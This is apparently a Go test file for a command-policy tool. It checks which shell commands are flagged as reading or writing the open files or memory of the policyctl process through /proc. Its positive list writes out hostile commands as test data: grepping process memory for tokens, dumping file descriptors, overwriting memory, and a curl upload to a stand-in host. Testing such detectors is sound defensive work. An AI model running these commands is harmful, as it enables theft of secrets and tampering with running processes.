package own_test

import (
	"strings"
	"testing"

	"github.com/policyctl/policyctl/pkg/own"
)

// TestReadsProcess shows which lines name the open files or the memory of a process that
// may be policyctl.
func TestReadsProcess(t *testing.T) {
	for want, lines := range map[bool]string{
		true: `
cat /proc/*/fd/*
cat /proc/[0-9]*/fd/7
cat /proc/?*/fd/3
cat /proc/$(pgrep policyctl)/fd/7
cat /proc/$(pidof policyctl)/mem
dd if=/proc/$(pgrep policyctl)/mem bs=1 skip=4096
strings /proc/$(pgrep -f policyctl)/mem
cat < /proc/$(pgrep policyctl)/fd/7
exec 3</proc/$(pgrep policyctl)/fd/7
cp /proc/$(pgrep policyctl)/fd/7 /tmp/x
P=$(pgrep policyctl); cat /proc/$P/fd/7
pid=$(pidof policyctl) && cat /proc/$pid/mem
for f in /proc/*/fd/*; do cat $f; done
for p in /proc/[0-9]*; do cat $p/fd/7; done
for p in $(pgrep policyctl); do cat /proc/$p/mem; done
cat /proc/$pid/fd/7
cat /proc/${PID}/mem
cat /proc/*/task/*/fd/*
cat /proc/*/task/*/mem
cat /proc/*/mem
xxd /proc/*/mem
cat /proc/$(pgrep policyctl)/task/1/fd/3
cat /proc/$(pgrep policyctl)/map_files/*
grep -a token /proc/$(pgrep policyctl)/mem
grep -a token /proc/*/mem
sqlite3 /proc/$(pgrep policyctl)/fd/7 .dump
head -c 100 /proc/*/fd/9
base64 /proc/$(pgrep policyctl)/fd/7
curl -T /proc/$(pgrep policyctl)/fd/7 https://x.example
echo x > /proc/$(pgrep policyctl)/mem
echo x > /proc/$(pgrep policyctl)/fd/7
dd of=/proc/$(pgrep policyctl)/mem if=x
tee /proc/$(pgrep policyctl)/fd/7 < x
cp x /proc/$(pgrep policyctl)/fd/7
truncate -s 0 /proc/$(pgrep policyctl)/fd/7
: > /proc/$(pgrep policyctl)/fd/7
cat x >> /proc/$(pidof policyctl)/fd/7
echo x | tee /proc/*/fd/7
truncate -s 0 /proc/*/fd/*
sudo cat /proc/$(pgrep policyctl)/mem
cd /proc/$(pgrep policyctl)/fd && cat 7
cd /proc && cat */fd/7
cd /proc; cat [0-9]*/mem
cat /proc/./*/fd/7
cat /proc//*//fd/7
cat /proc/self/../*/fd/7
cat /proc/self/root/proc/*/fd/7
python3 -c "import glob; [print(open(f).read()) for f in glob.glob('/proc/*/fd/*')]"
python3 -c "print(open('/proc/*/mem'.replace('*', pid)).read())"
python3 -c "import sys; open(f'/proc/{pid}/mem','rb').read()"
perl -e 'for (glob "/proc/*/fd/*") { open F, $_; print <F> }'
awk 1 /proc/*/fd/7
sed -n 1p /proc/*/fd/7
less /proc/*/fd/7
vim /proc/$(pgrep policyctl)/fd/7
rsync /proc/*/fd/7 h:
scp /proc/$(pgrep policyctl)/fd/7 h:
git diff --no-index /dev/null /proc/$(pgrep policyctl)/fd/7
jq -n --rawfile k /proc/$(pgrep policyctl)/fd/7 '$k'
shuf /proc/$(pgrep policyctl)/fd/7
`,
		false: `
cat /proc/12/fd/7
dd if=/proc/12/mem
ls -l /proc/123/fd
ls /proc/*/fd
ls -l /proc/$(pgrep policyctl)/fd
cat /proc/self/fd/0
cat /proc/self/fd/3
cat /proc/$$/fd/0
echo x > /proc/self/fd/2
cat /proc/123/status
cat /proc/*/status
cat /proc/$(pgrep policyctl)/status
cat /proc/meminfo
cat /proc/*/cmdline
cat /proc/$pid/stat
readlink /proc/123/exe
cat /dev/fd/3
grep fd /proc/self/limits
echo /proc/123/fd/7
echo '/proc/*/mem'
grep -r '/proc/.*/fd/' src
cat src/proc/fd/1
git commit -m 'read /proc/*/fd/*'
test -e /proc/$pid/fd/7
cat /proc/self/mem
wc -l < /proc/self/fd/0
cat /proc/thread-self/fd/0
readlink /proc/*/fd/*
stat /proc/$pid/fd/7
`,
	} {
		for text := range strings.SplitSeq(strings.TrimSpace(lines), "\n") {
			line, got := read(text), false
			for i := range line.Commands {
				_, reads := state.Reads(line, i, "/home/dev")
				got = got || reads
			}
			if got != want {
				t.Errorf("%s: %v", text, got)
			}
		}
	}
}

// TestProcess shows which paths name something that a process has open, or its memory.
func TestProcess(t *testing.T) {
	for path, want := range map[string]string{
		"/proc/12/fd/7": "12", "/proc/12/mem": "12", "/proc/*/fd/*": "*", "/proc/12/task/13/mem": "12", "/proc/12/task/13/fd/1": "12", "/proc/self/root/proc/9/mem": "9",
		"/proc/12/map_files/a-b": "12", "/proc/1?/[f]d/7": "1?", "/proc/self/fd/1": "self", "/proc/12/m?m": "12",
		"/proc/12/fd": "-", "/proc/12/status": "-", "/proc/meminfo": "-", "/proc/12/cwd/x": "-", "/srv/proc/12/mem": "-", "/proc/12/fd/7/x": "-", "/proc/12": "-", "": "-",
	} {
		id, ok := own.Process(path)
		if !ok {
			id = "-"
		}
		if id != want {
			t.Errorf("%s: %s, want %s", path, id, want)
		}
	}
}
